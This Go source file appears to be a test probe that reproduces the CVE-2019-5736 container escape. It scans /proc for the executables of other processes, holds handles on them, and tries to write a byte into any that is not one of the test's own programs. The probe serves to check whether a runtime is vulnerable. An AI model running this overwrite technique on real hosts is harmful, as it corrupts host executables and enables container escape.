package main

import (
	"fmt"
	"os"
	"path/filepath"
	"strconv"
	"time"

	"golang.org/x/sys/unix"
)

// exe plays CVE-2019-5736: it watches every process it can see for an executable that is not one of the
// container's, keeps a handle on it, and tries to write to it as soon as the file is no longer busy.
func exe(args []string) error {
	seconds, err := strconv.ParseFloat(args[0], 64)
	if err != nil {
		return err
	}
	h := hunt{seen: map[fileID]int{}}
	fmt.Println("hunting")
	for end := time.Now().Add(time.Duration(seconds * float64(time.Second))); time.Now().Before(end); {
		for _, pattern := range []string{"/proc/[0-9]*/exe", "/proc/[0-9]*/map_files/*"} {
			links, err := filepath.Glob(pattern) // an ELF interpreter shows in map_files only
			if err != nil {
				return err
			}
			for _, link := range links {
				h.grab(link)
			}
		}
		for id, fd := range h.seen {
			h.overwrite(id, fmt.Sprintf("/proc/self/fd/%d", fd))
		}
	}
	fmt.Println("seen", len(h.seen), "written", h.written)
	return nil
}

// The programs that the tests put into a container, this one among them: writing to those proves nothing.
var harmless = map[string]bool{"probe": true, "busybox": true, "elf": true}

type fileID struct {
	dev, ino uint64
}

type hunt struct {
	seen    map[fileID]int // handle by file
	written int
}

// grab keeps a handle on the executable of a process. Most processes end while it looks: no error counts.
func (h *hunt) grab(link string) {
	fd, err := unix.Open(link, unix.O_RDONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		return
	}
	// Of the open file, not of the link: the process may have executed another one in between.
	target, err := os.Readlink(fmt.Sprintf("/proc/self/fd/%d", fd))
	var st unix.Stat_t
	if err != nil || harmless[filepath.Base(target)] || unix.Fstat(fd, &st) != nil {
		_ = unix.Close(fd)
		return
	}
	id := fileID{st.Dev, st.Ino}
	if _, known := h.seen[id]; known {
		_ = unix.Close(fd)
		return
	}
	h.seen[id] = fd
	fmt.Printf("seen %s as %d:%d\n", target, id.dev, id.ino)
	h.overwrite(id, link)
}

// overwrite counts a write that the kernel accepted. Opening alone is not a hit: a sealed memory file
// opens for writing and then refuses the write.
func (h *hunt) overwrite(id fileID, path string) {
	for _, mode := range []int{unix.O_WRONLY, unix.O_RDWR} {
		fd, err := unix.Open(path, mode|unix.O_CLOEXEC, 0)
		if err != nil {
			continue
		}
		if n, err := unix.Pwrite(fd, []byte("#"), 0); err == nil && n == 1 {
			h.written++
			if h.written == 1 {
				fmt.Printf("WROTE to file %d:%d\n", id.dev, id.ino)
			}
		}
		_ = unix.Close(fd)
	}
}
